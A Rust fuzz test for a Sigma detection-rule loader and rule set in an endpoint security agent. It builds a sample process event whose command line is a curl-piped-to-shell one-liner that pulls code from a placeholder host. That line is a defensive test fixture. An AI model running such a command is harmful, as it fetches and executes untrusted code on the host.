//! Sigma rule files: loading, routing and compiling arbitrary YAML never panics, and a rule
//! that loads is evaluated against an event without panicking.
#![no_main]
use std::path::Path;

use aurora_agent::detect::logsource::LogsourceMap;
use aurora_agent::detect::rules::{load_text, AlertLevel};
use aurora_agent::detect::ruleset::RuleSet;
use aurora_agent::event::{names as f, Event, EventKind};
use libfuzzer_sys::fuzz_target;

fuzz_target!(|data: &[u8]| {
    let Ok(text) = std::str::from_utf8(data) else {
        return;
    };
    let map = LogsourceMap::builtin();
    let mut entries = Vec::new();
    load_text(
        Path::new("fuzz.yml"),
        text,
        &map,
        AlertLevel::Informational,
        true,
        &mut entries,
    );
    let rules: Vec<_> = entries.iter().filter_map(|e| e.rule.as_ref()).collect();
    let (mut set, _) = RuleSet::compile(rules.into_iter().enumerate(), 1);
    let mut ev = Event::new(EventKind::ProcessCreation);
    ev.push_str(f::IMAGE, "/usr/bin/bash");
    ev.push_str(f::COMMAND_LINE, "bash -c 'curl http://x | sh'");
    ev.push_int(f::PROCESS_ID, 7);
    assert_eq!(set.evaluate(&ev), set.evaluate_all(&ev));
});
